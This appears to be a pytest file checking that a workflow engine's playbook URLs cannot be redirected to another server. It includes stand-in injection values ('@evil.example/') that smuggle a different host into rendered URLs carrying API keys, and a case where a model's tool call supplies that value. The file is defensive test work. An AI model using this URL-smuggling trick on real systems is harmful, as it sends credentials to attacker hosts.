"""A URL in a playbook leads to the server that was written there, whatever is rendered into it."""

from typing import Any

import pytest

from noetl_mcp.broker.run import World
from noetl_mcp.playbook.rendering.secret import Secret
from tests.broker.desks import work_off
from tests.worker.gateway import calls, gateway, in_turn, text
from tests.worker.shop import Shop
from tests.worker.test_turns import PLAYBOOK, answered, filled, run

HEAD = """
workload: {x: "@evil.example/", secret: hush}
workflow:
"""
URL = 'url: "https://host.example:1{{ workload.x }}"'
SAVE = f"save: {{storage: http, {URL}, headers: {{Authorization: hush}}}}"


@pytest.mark.parametrize(
    "step",
    [
        f"type: http, {URL}, headers: {{X-Api-Key: hush}}",
        f"type: http, {URL.replace('url', 'endpoint')}",
        f"type: jsonrpc, {URL}, method: m, confirm: true",
        f"type: mcp, {URL}, tool: t",
        f"type: revit, {URL}, method: get_levels",
        f"type: noop, data: {{a: 1}}, {SAVE}",
        f"type: transfer, source: {{type: http, {URL}}}, target: {{type: file, path: a.csv}}",
        'type: http, url: "https://host.example/", proxy: "http://proxy{{ workload.x }}"',
    ],
)
def test_a_url_that_leads_elsewhere_fails_its_step(shop: Shop, step: str) -> None:
    done = shop.run(f"{HEAD}  - {{step: a, {step}}}\n")

    assert done.status == "failed"
    error: Any = done.error
    assert error["code"] == "bad-url", error
    assert "may lead elsewhere: it must begin with '/', '?' or '#'" in error["message"]
    assert "{{ workload.x }}" in error["message"]


def test_a_model_is_asked_at_the_endpoint_that_was_written(shop: Shop) -> None:
    model = ", endpoint: 'http://127.0.0.1:1{{ \"@evil.example/\" }}'"

    done, made = run(shop, in_turn(text("no")), model=model)

    error: Any = done.error
    assert (done.status, error["code"]) == ("failed", "bad-url")
    assert "endpoint: {{" in error["message"]
    assert made.asked == []


def test_what_a_model_says_leads_its_tools_to_no_other_server(shop: Shop) -> None:
    book = PLAYBOOK.replace('"URL/tool/unsafe"', '"URL{{ input.to }}"')
    with gateway(in_turn(calls(("unsafe", {"to": "@evil.example/"})), text("no"))) as made:
        shop.secrets = World(secrets={"llm_gateway": Secret(made.url)})
        number = shop.start(filled(book.replace("method: POST", "method: GET"), made))
        work_off(shop, number)

    (told,) = answered(made)
    assert "bad-url" in told["content"]
    assert "must begin with '/'" in told["content"]
    assert made.tools == []
